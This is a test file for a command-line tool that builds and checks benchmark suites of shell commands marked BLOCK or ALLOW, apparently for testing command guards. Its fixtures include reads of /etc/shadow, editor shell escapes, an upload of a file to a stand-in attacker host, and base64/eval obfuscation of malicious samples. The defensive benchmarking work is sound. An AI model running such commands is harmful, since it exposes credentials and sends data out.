import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { describe, expect, it } from 'vitest'
import { aegish } from './command.ts'
import { testFolder } from './test-folder.ts'

const SUBCOMMANDS = 'list show sample diff validate seal extract import mutate'.split(' ')
const folder = testFolder()
const at = (name: string) => join(folder.path, name)
const lines = (file: string) =>
  readFileSync(file, 'utf8')
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line))

/** A whole suite of our own, sealed by the command. */
function makeSuite(name: string, changes: object = {}): string {
  const path = at(name)
  mkdirSync(path)
  const about = {
    name,
    title: 'A small suite',
    version: '1.0.0',
    licence: 'MIT',
    description: 'Five samples.',
  }
  const samples = [
    {
      id: '1',
      command: 'tac /etc/shadow',
      expect: 'BLOCK',
      category: 'file-read',
      binary: 'tac',
      rule: '4',
      why: 'prints the password hashes',
      twin: '2',
    },
    {
      id: '2',
      command: 'tac notes.txt',
      expect: 'ALLOW',
      binary: 'tac',
      rule: '13',
      why: 'prints the notes',
      twin: '1',
    },
    {
      command: "vim -c ':!sh'",
      expect: 'BLOCK',
      category: 'shell',
      binary: 'vim',
      rule: '1a',
      why: 'an editor spawns a shell',
    },
    {
      command: 'vim notes.txt',
      expect: 'ALLOW',
      binary: 'vim',
      rule: '13',
      why: 'edits the notes',
    },
    {
      command: 'openssl enc -d -in a\nid',
      expect: 'ALLOW',
      binary: 'openssl',
      rule: '13',
      why: 'decodes a file',
    },
  ]
  writeFileSync(join(path, 'suite.json'), JSON.stringify({ ...about, ...changes }))
  writeFileSync(join(path, 'README.md'), '# A small suite\n')
  writeFileSync(join(path, 'samples.jsonl'), samples.map((one) => JSON.stringify(one)).join('\n'))
  expect(aegish(['suite', 'seal', path])).toMatchObject({ status: 0, stderr: '' })
  return path
}

const suite = makeSuite('small')

/** A clone of GTFOBins in small, with entries of our own. */
function makeRepository(name: string, files: Record<string, string>): string {
  mkdirSync(join(at(name), '_gtfobins'), { recursive: true })
  for (const [file, text] of Object.entries(files))
    writeFileSync(join(at(name), '_gtfobins', file), text)
  return at(name)
}
const repository = makeRepository('repo', {
  brewer:
    'functions:\n  file-read:\n  - code: brewer /path/to/input-file\n  shell:\n  - code: brewer -x /bin/sh\n  sudo:\n  - code: sudo brewer\n',
  kettle:
    'functions:\n  upload:\n  - code: kettle attacker.com:12345 </path/to/input-file\n  shell:\n  - code: brewer -x /bin/sh\n',
  teapot: 'alias: brewer\n',
})

describe('aegish suite', () => {
  it('explains itself', () => {
    for (const args of [['suite'], ['suite', '--help']]) {
      const { status, stdout } = aegish(args)
      expect(status).toBe(0)
      for (const name of SUBCOMMANDS) {
        expect(stdout).toMatch(new RegExp(`^  ${name} `, 'm'))
      }
    }
    expect(aegish(['suite', 'validat']).stderr).toBe(
      'aegish: unknown command "validat", did you mean "validate"? ("aegish suite --help" lists them)\n',
    )
    for (const name of SUBCOMMANDS) {
      expect(aegish(['suite', name, '--help'])).toMatchObject({
        status: 0,
        stdout: expect.stringContaining('Examples:'),
      })
    }
  })

  it('lists what is shipped', () => {
    const suites = fileURLToPath(new URL('../suites/', import.meta.url))
    const names = existsSync(suites) ? readdirSync(suites).sort() : []
    const { status, stdout } = aegish(['suite', 'list', '--json'])
    expect(status).toBe(0)
    expect(JSON.parse(stdout).map(({ name }: { name: string }) => name)).toEqual(names)
  })
})

describe('aegish suite show, sample, diff', () => {
  it('shows samples for people and for programs, filtered', () => {
    const text = aegish(['suite', 'show', suite, '--filter', 'expect=BLOCK,category=shell']).stdout
    expect(text).toContain("vim -c ':!sh'\n  # an editor spawns a shell")
    expect(text).not.toContain('shadow')
    const json = aegish(['suite', 'show', suite, '--json']).stdout
    expect(json).toBe(readFileSync(join(suite, 'samples.jsonl'), 'utf8'))
    expect(
      aegish(['suite', 'show', suite, '--json', '--filter', 'NOTES']).stdout.trim().split('\n'),
    ).toHaveLength(2)
  })

  it('draws the same samples for the same seed', () => {
    const draw = (seed: string) =>
      aegish(['suite', 'sample', suite, '-n', '2', '--seed', seed, '--json']).stdout
    expect(draw('1')).toBe(draw('1'))
    expect(draw('1').trim().split('\n')).toHaveLength(2)
    expect(new Set(['1', '2', '3', '4', '5'].map(draw)).size).toBeGreaterThan(1)
  })

  it('tells two suites apart', () => {
    const changed = readFileSync(join(suite, 'samples.jsonl'), 'utf8').replace(
      'edits the notes',
      'writes notes',
    )
    const other = folder.write('other.jsonl', `${changed.split('\n').slice(1).join('\n')}`)
    const { stdout, status } = aegish(['suite', 'diff', suite, other])
    expect(status).toBe(0)
    expect(stdout).toMatch(
      /^- tac_file-read_\w+ {2}tac \/etc\/shadow\n~ vim notes.txt\n {4}why: "edits the notes" -> "writes notes"\n0 added, 1 removed, 1 changed, 3 the same\n$/,
    )
    expect(JSON.parse(aegish(['suite', 'diff', suite, suite, '--json']).stdout)).toEqual({
      same: 5,
      added: [],
      removed: [],
      changed: [],
    })
  })
})

describe('aegish suite validate', () => {
  it('passes a sound suite', () => {
    const { status, stdout, stderr } = aegish(['suite', 'validate', suite])
    expect([status, stderr]).toEqual([0, ''])
    expect(stdout).toContain('5 samples (2 malicious, 3 harmless), 0 problems\n  bash -n: 5 read')
    expect(stdout).toContain('baseline/regex: 1.000')
  })

  it('fails with exit code 1 and says where', () => {
    const strict = makeSuite('strict', { limits: { regexBaseline: 0.6 } })
    expect(aegish(['suite', 'validate', strict])).toMatchObject({
      status: 1,
      stdout: expect.stringContaining(
        'strict/suite.json: the regular-expression baseline scores 1.000, the limit is 0.6',
      ),
    })
    const loose = folder.write(
      'loose.jsonl',
      `${readFileSync(join(suite, 'samples.jsonl'), 'utf8').replace('tac notes.txt', "echo 'open")}`,
    )
    const { status, stdout } = aegish(['suite', 'validate', loose, '--json'])
    expect(status).toBe(1)
    expect(JSON.parse(stdout)).toMatchObject([
      {
        problems: [{ file: loose, line: 2, message: expect.stringMatching(/^bash -n: /) }],
        syntax: { checked: 5 },
      },
    ])
    expect(aegish(['suite', 'validate', loose, '--no-syntax'])).toMatchObject({
      status: 0,
      stdout: expect.stringContaining('bash -n: not asked'),
    })
  })

  it('says so where there is no bash', () => {
    const { stdout } = aegish(['suite', 'validate', suite], { env: { PATH: folder.path } })
    expect(stdout).toContain('bash -n: NOT CHECKED, there is no bash on this machine')
  })

  it('refuses a line that does not fit with exit code 2, or goes on behind it', () => {
    const file = folder.write(
      'bad.jsonl',
      `{"id":"x"}\n${readFileSync(join(suite, 'samples.jsonl'), 'utf8')}`,
    )
    const refused = aegish(['suite', 'validate', file])
    expect(refused.status).toBe(2)
    expect(refused.lines).toHaveLength(1)
    expect(refused.stderr).toMatch(/bad\.jsonl:1: command: /)
    expect(aegish(['suite', 'validate', file, '--skip-invalid'])).toMatchObject({
      status: 1,
      stdout: expect.stringMatching(/bad\.jsonl:1: command: .*5 samples/s),
    })
  })
})

describe('aegish suite extract gtfobins', () => {
  const extract = (...args: string[]) => aegish(['suite', 'extract', 'gtfobins', ...args])

  it('extracts with fixed values', () => {
    const out = at('classic.jsonl')
    const { status, stdout, stderr } = extract('--from', repository, '--out', out)
    expect(status).toBe(0)
    expect(stdout).toBe(
      '3 commands of 2 binaries (1 duplicates left out): file-read 1, upload 1, shell 1\n',
    )
    expect(stderr).toContain('GPL-3.0')
    expect(lines(out).map(({ command }) => command)).toEqual([
      'brewer /etc/shadow',
      'brewer -x /bin/sh',
      'kettle 10.0.0.1:4444 </etc/shadow',
    ])
    expect(aegish(['suite', 'validate', out]).status).toBe(0)
  })

  it('extracts with drawn values, byte for byte the same for the same seed', () => {
    const varied = (seed: string, name: string) => {
      extract('--from', repository, '--placeholders', 'varied', '--seed', seed, '--out', at(name))
      return readFileSync(at(name), 'utf8')
    }
    expect(varied('1', 'v1.json')).toBe(varied('1', 'v2.json'))
    expect(varied('1', 'v1.json')).not.toBe(varied('2', 'v3.json'))
    expect(varied('1', 'v1.json')).not.toMatch(/10\.0\.0\.1|4444|attacker/)
    expect(aegish(['suite', 'validate', at('v1.json')]).status).toBe(0)
  })

  it('clones', () => {
    const git = (...args: string[]) =>
      execFileSync('git', ['-C', repository, ...args], { stdio: 'ignore' })
    git('init', '-q')
    git('add', '-A')
    git('-c', 'user.name=t', '-c', 'user.email=t@example.com', 'commit', '-qm', 'x')
    expect(extract('--clone', `file://${repository}`, '--out', at('cloned.jsonl')).status).toBe(0)
    expect(readFileSync(at('cloned.jsonl'), 'utf8')).toBe(readFileSync(at('classic.jsonl'), 'utf8'))
  })

  it.each([
    ['not YAML', { x: 'functions: {\n' }, /_gtfobins\/x:\d+: this is not YAML/],
    [
      'an unknown category',
      { x: 'functions:\n  fly:\n  - code: x\n' },
      /_gtfobins\/x:2: unknown category "fly"/,
    ],
    [
      'a give-away word',
      { x: 'functions:\n  shell:\n  - code: x --payload a\n' },
      /give-away word "payload".*--skip-invalid/,
    ],
  ])('refuses %s, writes nothing, and can go on', (title, files, message) => {
    const from = makeRepository(title, {
      ...files,
      y: 'functions:\n  shell:\n  - code: y /bin/sh\n',
    } as Record<string, string>)
    const out = at(`${title}.jsonl`)
    const refused = extract('--from', from, '--out', out)
    expect(refused.status).toBe(2)
    expect(refused.stderr).toMatch(message)
    expect(refused.lines).toHaveLength(1)
    expect(existsSync(out)).toBe(false)
    const skipped = extract('--from', from, '--out', out, '--skip-invalid')
    expect(skipped.status).toBe(0)
    expect(skipped.stderr).toMatch(/left out/)
    expect(lines(out).map(({ binary }) => binary)).toEqual(['y'])
  })

  it.each([
    ['no source', ['--out', 'x.jsonl'], /give either --from FOLDER or --clone/],
    ['two sources', ['--from', 'a', '--clone', '--out', 'x.jsonl'], /give either/],
    ['no output', ['--from', 'a'], /--out/],
    [
      'another ending',
      ['--from', 'a', '--out', 'x.txt'],
      /x\.txt: samples are written to \.jsonl or \.json/,
    ],
    [
      'a folder without _gtfobins',
      ['--from', '.', '--out', 'x.jsonl'],
      /there is no folder _gtfobins/,
    ],
    [
      'a clone that fails',
      ['--clone', 'file:///does/not/exist', '--out', 'x.jsonl'],
      /cloning file:\/\/\/does\/not\/exist failed: .*--from/,
    ],
    [
      'a style of its own',
      ['--from', 'a', '--out', 'x.jsonl', '--placeholders', 'wild'],
      /classic, varied/,
    ],
    [
      'a seed that is no number',
      ['--from', 'a', '--out', 'x.jsonl', '--seed', 'x'],
      /not a whole number/,
    ],
  ])('refuses %s', (_, args, message) => {
    const {
      status,
      stderr,
      lines: said,
    } = aegish(['suite', 'extract', 'gtfobins', ...args], { cwd: folder.path })
    expect([status, said.length]).toEqual([2, 1])
    expect(stderr).toMatch(message)
    expect(existsSync(at('x.jsonl'))).toBe(false)
  })
})

describe('aegish suite import harmless', () => {
  const records = [
    { command: 'ls', prompt: 'List' },
    { command: 'rm -r x' },
    { command: 'ls ' },
    { command: 'sudo ls' },
  ]
  const source = folder.write('commands.json', JSON.stringify({ commands: records }))

  it('keeps what is harmless and reports the rest', () => {
    const out = at('harmless.jsonl')
    const { status, stdout } = aegish([
      'suite',
      'import',
      'harmless',
      '--from',
      source,
      '--out',
      out,
    ])
    expect(status).toBe(0)
    expect(stdout).toBe(
      [
        'line 1: deletion: rm -r x',
        'line 1: duplicate of line 1: ls ',
        'line 1: privilege change: sudo ls',
        '4 read, 1 kept, 3 removed',
        '  1 deletion',
        '  1 duplicate',
        '  1 privilege change',
        '',
      ].join('\n'),
    )
    expect(lines(out)).toMatchObject([{ command: 'ls', expect: 'ALLOW', why: 'List' }])
    const json = aegish(['suite', 'import', 'harmless', '--from', source, '--out', out, '--json'])
    expect(JSON.parse(json.stdout)).toMatchObject({
      read: 4,
      kept: 1,
      removals: [{ reason: 'deletion' }, {}, {}],
    })
  })

  it('refuses a record without a command', () => {
    const file = folder.write('records.jsonl', '{"command":"ls"}\n{"prompt":"x"}\n')
    const out = at('none.jsonl')
    const refused = aegish(['suite', 'import', 'harmless', '--from', file, '--out', out])
    expect(refused).toMatchObject({
      status: 2,
      stderr: expect.stringContaining('records.jsonl:2: command: must be a text'),
    })
    expect(existsSync(out)).toBe(false)
    expect(
      aegish(['suite', 'import', 'harmless', '--from', file, '--out', out, '--skip-invalid'])
        .status,
    ).toBe(0)
    expect(lines(out)).toHaveLength(1)
  })
})

describe('aegish suite mutate', () => {
  it('rewrites malicious samples, byte for byte the same for the same seed', () => {
    const mutate = (seed: string, name: string) => {
      const done = aegish([
        'suite',
        'mutate',
        suite,
        '--techniques',
        'base64,variables+eval',
        '--seed',
        seed,
        '--out',
        at(name),
      ])
      expect(done).toMatchObject({
        status: 0,
        stdout: '4 mutants\n',
        stderr: '3 harmless samples were left out\n',
      })
      return readFileSync(at(name), 'utf8')
    }
    expect(mutate('1', 'm1.jsonl')).toBe(mutate('1', 'm2.jsonl'))
    expect(mutate('1', 'm1.jsonl')).not.toBe(mutate('2', 'm3.jsonl'))
    expect(lines(at('m1.jsonl')).map(({ technique }) => technique)).toEqual([
      'base64',
      'variables+eval',
      'base64',
      'variables+eval',
    ])
    expect(aegish(['suite', 'validate', at('m1.jsonl')]).status).toBe(0)
  })

  it('refuses a technique that it does not know', () => {
    const { status, stderr } = aegish([
      'suite',
      'mutate',
      suite,
      '--techniques',
      'magic',
      '--out',
      at('m4.jsonl'),
    ])
    expect([status, existsSync(at('m4.jsonl'))]).toEqual([2, false])
    expect(stderr).toContain('there is no technique "magic" ("aegish suite techniques" lists them)')
  })

  it('writes nothing when a line of the suite does not fit', () => {
    const file = folder.write(
      'half.jsonl',
      `${readFileSync(join(suite, 'samples.jsonl'), 'utf8')}broken\n`,
    )
    const out = at('m5.jsonl')
    const args = ['suite', 'mutate', file, '--techniques', 'eval', '--out', out]
    expect(aegish(args)).toMatchObject({
      status: 2,
      stderr: expect.stringContaining('half.jsonl:6: this is not JSON'),
    })
    expect(readdirSync(folder.path).filter((name) => name.includes('m5'))).toEqual([])
    expect(aegish([...args, '--skip-invalid'])).toMatchObject({ status: 0, stdout: '2 mutants\n' })
  })
})

describe('one reader for all commands', () => {
  it('takes a byte order mark before JSON Lines, JSON and CSV, also to measure', () => {
    const sample = JSON.stringify({ command: 'ls', expect: 'ALLOW' })
    for (const [name, text] of [
      ['mark.jsonl', `${sample}\n`],
      ['mark.json', `[${sample}]`],
      ['mark.csv', 'command,expect\nls,ALLOW\n'],
    ] as const) {
      folder.write(name, `\ufeff${text}`)
      expect(aegish(['suite', 'show', name], { cwd: folder.path }).stdout).toContain('ls')
      const bench = aegish(['bench', '--guard', 'baseline/allow', '--suite', name], {
        cwd: folder.path,
      })
      expect(bench.status, bench.stderr).toBe(0)
    }
  })

  it('prints JSON Lines that do nothing to a terminal and are the same suite', () => {
    const command = 'echo \u009b2J \u202e \u001b[2J'
    folder.write('odd.jsonl', `${JSON.stringify({ command, expect: 'ALLOW' })}\n`)
    const { stdout } = aegish(['suite', 'show', 'odd.jsonl', '--json'], { cwd: folder.path })
    expect(stdout).not.toMatch(/[\u001b\u009b\u202e]/)
    expect(JSON.parse(stdout).command).toBe(command)
  })

  it('says which lines it left out because they are no text', () => {
    folder.write('latin.csv', Buffer.from('command,expect\nls,ALLOW\ncaf\xe9,ALLOW\n', 'latin1'))
    const show = (...more: string[]) =>
      aegish(['suite', 'show', 'latin.csv', '--json', ...more], { cwd: folder.path })
    expect(show()).toMatchObject({
      status: 2,
      lines: ['aegish: latin.csv:3: this is not UTF-8 text'],
    })
    const rest = show('--skip-invalid')
    expect(rest).toMatchObject({
      status: 0,
      lines: ['aegish: latin.csv:3: this is not UTF-8 text (left out)'],
    })
    expect(rest.stdout.trim().split('\n')).toHaveLength(1)
  })
})

describe('bad names and files', () => {
  it.each([
    [['show', 'nope'], /nope: no such suite, file or folder/],
    [['validate', 'nope'], /nope: no such suite/],
    [['sample', 'nope'], /no such suite/],
    [['diff', suite, 'nope'], /no such suite/],
    [['mutate', 'nope', '--techniques', 'all', '--out', 'x.jsonl'], /no such suite/],
    [['seal', 'nope'], /nope\/suite\.json: no such file/],
    [['show'], /missing required argument/],
    [['show', suite, '--filter', 'colour=red'], /there is no field "colour"/],
    [['sample', suite, '-n', '0'], /not a whole number of at least 1/],
    [['show', suite, '--jsonn'], /unknown option '--jsonn'/],
    [['import', 'harmful', '--from', 'x', '--out', 'y.jsonl'], /Allowed choices are harmless/],
    [['import', 'harmless', '--from', 'x.json', '--out', 'y.jsonl'], /x\.json: no such file/],
    [['show', '.'], /suite\.json: no such file/],
  ])('%j', (args, message) => {
    const { status, stdout, stderr, lines: said } = aegish(['suite', ...args], { cwd: folder.path })
    expect([status, stdout, said.length]).toEqual([2, '', 1])
    expect(stderr).toMatch(message)
  })
})
